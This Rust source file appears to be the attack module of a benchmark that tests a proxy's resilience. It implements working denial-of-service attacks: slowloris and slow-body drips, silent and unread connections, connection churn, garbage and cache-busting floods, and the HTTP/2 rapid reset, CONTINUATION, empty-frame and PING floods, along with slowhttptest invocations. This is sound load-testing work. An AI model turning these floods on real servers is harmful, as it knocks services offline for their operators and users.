//! Those who mean harm, each with a bounded number of connections and a bounded rate: slowhttptest, and our own. Ours run
//! in a process of their own, which is this program again: until its stdin ends, and then it tells what it did.

use crate::frame::{
    self, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, frame,
};
use std::io::{self, Read};
use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::time::{interval, sleep, timeout};

/// Connections of an attack that is slow, and of one that says nothing.
pub const MANY: usize = 2000;
const VERY_MANY: usize = 4000;
/// Connections of a flood over HTTP/2.
const FEW: usize = 10;

/// How an attack harms.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// It holds what there is a bounded number of, and asks for next to nothing.
    Slow,
    /// It has the proxy work.
    Flood,
}

/// Who runs it.
#[derive(Clone, Copy)]
pub enum By {
    /// slowhttptest, with these arguments besides the URL of this path.
    Slowhttptest(&'static [&'static str], &'static str),
    /// This program.
    Us(Own),
}

/// An attack of ours.
#[derive(Clone, Copy)]
pub enum Own {
    Head,
    Body,
    Silence,
    Unread,
    Windows,
    Churn,
    Garbage,
    Pipelined,
    Keys,
    Resets,
    Continuations,
    Empty,
    Pings,
}

pub struct Attack {
    pub name: &'static str,
    pub kind: Kind,
    pub by: By,
    /// What it does, for the page.
    pub does: &'static str,
}

const fn attack(kind: Kind, name: &'static str, by: By, does: &'static str) -> Attack {
    Attack { name, kind, by, does }
}

use Kind::{Flood, Slow};

pub const ATTACKS: [Attack; 17] = [
    attack(
        Slow,
        "slowhttptest -H",
        By::Slowhttptest(&["-H", "-i", "1", "-x", "24"], "/a/1"),
        "slowloris: 2,000 heads that never end, a line a second each",
    ),
    attack(
        Slow,
        "slowhttptest -B",
        By::Slowhttptest(&["-B", "-i", "1", "-s", "8192", "-x", "10"], "/a/1"),
        "2,000 bodies of 8 KiB, some octets a second each",
    ),
    attack(
        Slow,
        "slowhttptest -R",
        By::Slowhttptest(&["-R", "-a", "5", "-b", "3000"], "/a/1"),
        "Apache killer: 2,000 connections that ask for 2,995 ranges each",
    ),
    attack(
        Slow,
        "slowhttptest -X",
        By::Slowhttptest(&["-X", "-w", "512", "-y", "1024", "-n", "1", "-z", "32", "-k", "3"], "/a/large"),
        "2,000 connections that ask for 1 MiB three times, and take 32 octets a second through a window of 512 to 1,024",
    ),
    attack(Slow, "dripping heads", By::Us(Own::Head), "2,000 heads, an octet a second each"),
    attack(Slow, "dripping bodies", By::Us(Own::Body), "2,000 bodies of 1,000 octets, an octet a second each"),
    attack(Slow, "silence", By::Us(Own::Silence), "4,000 connections on which nothing is said"),
    attack(Slow, "answers not read", By::Us(Own::Unread), "1,000 connections that ask for 1 MiB and read none of it"),
    attack(
        Slow,
        "HTTP/2 windows of 0",
        By::Us(Own::Windows),
        "20 connections with 100 streams each that ask for 1 MiB and have no room for it",
    ),
    attack(Flood, "connections", By::Us(Own::Churn), "2,000 connections a second, reset as soon as they stand"),
    attack(Flood, "garbage", By::Us(Own::Garbage), "500 connections a second with 16 KiB that are not HTTP"),
    attack(
        Flood,
        "pipelined garbage",
        By::Us(Own::Pipelined),
        "100 connections a second with 100 requests for what is stored, at once, and something that is no request",
    ),
    attack(Flood, "new keys", By::Us(Own::Keys), "500 requests a second, each for what nobody has asked for"),
    attack(
        Flood,
        "HTTP/2 rapid reset",
        By::Us(Own::Resets),
        "10,000 streams a second, opened and reset at once, on 10 connections",
    ),
    attack(
        Flood,
        "HTTP/2 CONTINUATION",
        By::Us(Own::Continuations),
        "20,000 frames of 1 KiB a second, of heads that never end, on 10 connections",
    ),
    attack(Flood, "HTTP/2 empty frames", By::Us(Own::Empty), "50,000 empty DATA frames a second, on 10 connections"),
    attack(Flood, "HTTP/2 PING", By::Us(Own::Pings), "50,000 frames a second, on 10 connections"),
];

/// What an attack of ours did.
#[derive(Default)]
struct Tally {
    /// Connections that stood.
    opened: AtomicU64,
    /// Connections that the proxy ended.
    ended: AtomicU64,
    /// Requests, or frames, as the attack goes.
    sent: AtomicU64,
}

type Counted = Arc<Tally>;

/// Runs the attack of this name until stdin ends; then prints what it did.
pub fn run(name: &str, address: SocketAddr) {
    let own = ATTACKS.iter().find(|attack| attack.name == name).map(|attack| attack.by);
    let Some(By::Us(own)) = own else { panic!("no attack of ours is called {name}") };
    let tally = Counted::default();
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("a runtime");
    let attacking = runtime.spawn(harm(own, address, tally.clone()));
    runtime.block_on(async {
        let over = tokio::task::spawn_blocking(|| io::stdin().read(&mut [0]));
        over.await.expect("it only waits").expect("stdin can be read");
        attacking.abort();
    });
    let read = |count: &AtomicU64| count.load(Relaxed);
    println!("{} {} {}", read(&tally.opened), read(&tally.ended), read(&tally.sent));
    runtime.shutdown_background();
}

async fn harm(own: Own, address: SocketAddr, tally: Counted) {
    match own {
        Own::Head => {
            let head = format!("GET /a/1 HTTP/1.1\r\nHost: shop.test\r\nX: {}", "x".repeat(4000));
            held(MANY, address, tally, move |stream, tally| dripped(stream, tally, String::new(), head.clone())).await;
        }
        Own::Body => {
            let head = "PUT /b HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 1000\r\n\r\n";
            let body = "x".repeat(1000);
            held(MANY, address, tally, move |stream, tally| dripped(stream, tally, head.into(), body.clone())).await;
        }
        Own::Silence => held(VERY_MANY, address, tally, |stream, _| to_its_end(stream)).await,
        Own::Unread => held(MANY / 2, address, tally, unread).await,
        Own::Windows => held(2 * FEW, address, tally, closed_windows).await,
        Own::Churn => {
            paced(2000, address, tally, |stream, _| async move {
                // A reset leaves nothing behind, on either side.
                socket2::SockRef::from(&stream).set_linger(Some(Duration::ZERO))
            })
            .await;
        }
        Own::Garbage => paced(500, address, tally, |stream, _| says(stream, vec![b'\x16'; 16 * 1024])).await,
        Own::Pipelined => {
            let octets =
                ["GET /a/1 HTTP/1.1\r\nHost: shop.test\r\n\r\n".repeat(100), "garbage\r\n\r\n".into()].concat();
            paced(100, address, tally, move |stream, _| says(stream, octets.clone().into())).await;
        }
        Own::Keys => held(FEW, address, tally, new_keys).await,
        Own::Resets => {
            let reset = |at| {
                [
                    frame(HEADERS, END_HEADERS | END_STREAM, at, &frame::head("GET", "/a/1")),
                    frame(RST_STREAM, 0, at, &8_u32.to_be_bytes()),
                ]
                .concat()
            };
            held(FEW, address, tally, move |stream, tally| poured(stream, tally, Vec::new(), 10, reset)).await;
        }
        Own::Continuations => {
            let opened = frame(HEADERS, END_STREAM, 1, &frame::head("GET", "/a/1"));
            let more = frame(CONTINUATION, 0, 1, &frame::section([("x", "y".repeat(1000))]));
            let next = move |_| more.clone();
            held(FEW, address, tally, move |stream, tally| poured(stream, tally, opened.clone(), 20, next.clone()))
                .await;
        }
        Own::Empty => {
            let opened = frame(HEADERS, END_HEADERS, 1, &frame::head("PUT", "/b"));
            let next = |_| frame(DATA, 0, 1, b"");
            held(FEW, address, tally, move |stream, tally| poured(stream, tally, opened.clone(), 50, next)).await;
        }
        Own::Pings => {
            let next = |_| frame(PING, 0, 0, b"whatever");
            held(FEW, address, tally, move |stream, tally| poured(stream, tally, Vec::new(), 50, next)).await;
        }
    }
}

/// So many connections, opened within a second; where the proxy ends one, another is opened in its place.
async fn held<F: Future<Output = io::Result<()>> + Send + 'static>(
    count: usize,
    address: SocketAddr,
    tally: Counted,
    one: impl Fn(TcpStream, Counted) -> F + Send + Sync + 'static,
) {
    let one = Arc::new(one);
    for at in 0..count {
        let (one, tally) = (one.clone(), tally.clone());
        tokio::spawn(async move {
            sleep(Duration::from_secs(1) * u32::try_from(at).expect("few") / u32::try_from(count).expect("few")).await;
            loop {
                if let Ok(stream) = connect(address).await {
                    tally.opened.fetch_add(1, Relaxed);
                    // However it ends.
                    drop(one(stream, tally.clone()).await);
                    tally.ended.fetch_add(1, Relaxed);
                }
                sleep(TICK).await;
            }
        });
    }
    std::future::pending::<()>().await;
}

/// How often a flood sends what is due.
const TICK: Duration = Duration::from_millis(10);

/// So many connections a second, at most a thousand at once.
async fn paced<F: Future<Output = io::Result<()>> + Send + 'static>(
    rate: u32,
    address: SocketAddr,
    tally: Counted,
    one: impl Fn(TcpStream, Counted) -> F + Send + Sync + 'static,
) {
    let (one, room, mut ticks) = (Arc::new(one), Arc::new(Semaphore::new(1000)), interval(TICK));
    loop {
        ticks.tick().await;
        for _ in 0..rate / 100 {
            let Ok(place) = room.clone().try_acquire_owned() else { continue };
            let (one, tally) = (one.clone(), tally.clone());
            tokio::spawn(async move {
                let _place = place;
                let Ok(stream) = connect(address).await else { return };
                tally.opened.fetch_add(1, Relaxed);
                drop(one(stream, tally.clone()).await);
                tally.ended.fetch_add(1, Relaxed);
            });
        }
    }
}

/// With a small buffer, so that little fits into what the kernel holds for a client that does not read.
async fn connect(address: SocketAddr) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    let stream = socket.connect(address).await?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Sends `first` at once and `rest` octet by octet, until the proxy has enough of it.
async fn dripped(mut stream: TcpStream, tally: Counted, first: String, rest: String) -> io::Result<()> {
    stream.write_all(first.as_bytes()).await?;
    for octet in rest.as_bytes() {
        if let Ok(heard) = timeout(Duration::from_secs(1), stream.read(&mut [0; 1024])).await {
            heard?;
            return to_its_end(stream).await;
        }
        stream.write_all(&[*octet]).await?;
        tally.sent.fetch_add(1, Relaxed);
    }
    to_its_end(stream).await
}

async fn says(mut stream: TcpStream, octets: Vec<u8>) -> io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let sent = async { writer.write_all(&octets).await };
    tokio::try_join!(sent, discarded(&mut reader)).map(drop)
}

async fn to_its_end(mut stream: TcpStream) -> io::Result<()> {
    discarded(&mut stream).await
}

async fn discarded(reader: &mut (impl AsyncReadExt + Unpin)) -> io::Result<()> {
    while reader.read(&mut [0; 4096]).await? > 0 {}
    Ok(())
}

async fn unread(mut stream: TcpStream, _: Counted) -> io::Result<()> {
    stream.write_all(b"GET /a/large HTTP/1.1\r\nHost: shop.test\r\n\r\n").await?;
    std::future::pending().await
}

/// Fifty a second on each connection.
async fn new_keys(mut stream: TcpStream, tally: Counted) -> io::Result<()> {
    static NEXT: AtomicU64 = AtomicU64::new(0);
    let (mut reader, mut writer) = stream.split();
    let asks = async {
        let mut ticks = interval(2 * TICK);
        loop {
            ticks.tick().await;
            let key = NEXT.fetch_add(1, Relaxed);
            let pid = std::process::id();
            let ask = format!("GET /a/flood-{pid}-{key} HTTP/1.1\r\nHost: shop.test\r\n\r\n");
            writer.write_all(ask.as_bytes()).await?;
            tally.sent.fetch_add(1, Relaxed);
        }
    };
    tokio::select! {
        ended = asks => ended,
        ended = discarded(&mut reader) => ended,
    }
}

/// HTTP/2 streams that ask for much and have no room for it.
async fn closed_windows(mut stream: TcpStream, tally: Counted) -> io::Result<()> {
    let no_room = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let ask = |at: u32| frame(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, &frame::head("GET", "/a/large"));
    let asks: Vec<u8> = (0..100).flat_map(ask).collect();
    stream.write_all(&[PREFACE, &no_room, &asks].concat()).await?;
    tally.sent.fetch_add(100, Relaxed);
    to_its_end(stream).await
}

/// HTTP/2 frames, `each` of them every tick, behind those that open it. What is answered is read.
async fn poured(
    mut stream: TcpStream,
    tally: Counted,
    opened: Vec<u8>,
    each: u32,
    next: impl Fn(u32) -> Vec<u8>,
) -> io::Result<()> {
    let (mut reader, mut writer) = stream.split();
    let floods = async {
        writer.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[]), &opened].concat()).await?;
        let mut ticks = interval(TICK);
        for turn in 0.. {
            ticks.tick().await;
            let octets: Vec<u8> = (turn * each..(turn + 1) * each).flat_map(|at| next(2 * at + 1)).collect();
            writer.write_all(&octets).await?;
            tally.sent.fetch_add(each.into(), Relaxed);
        }
        Ok(())
    };
    tokio::select! {
        ended = floods => ended,
        ended = discarded(&mut reader) => ended,
    }
}
